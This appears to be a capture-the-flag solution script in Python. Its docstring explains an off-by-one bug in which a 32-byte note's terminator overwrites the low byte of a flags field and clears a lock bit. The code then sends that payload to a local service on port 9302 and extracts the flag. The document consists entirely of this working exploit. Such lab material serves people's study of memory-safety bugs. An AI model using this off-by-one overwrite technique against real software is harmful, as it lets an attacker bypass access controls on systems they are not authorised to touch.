"""The length check lets a 32-byte note through, and the terminator lands on note[32]: the
low byte of flags (0x401), which becomes 0x400, not locked."""

import re
import socket

with socket.create_connection(("127.0.0.1", 9302), timeout=10) as connection:
    connection.recv(64)
    connection.sendall(b"N" * 32 + b"\n")
    received = b""
    while chunk := connection.recv(4096):
        received += chunk
print(re.search(rb"flag\{[0-9a-f]{32}\}", received).group(0).decode())
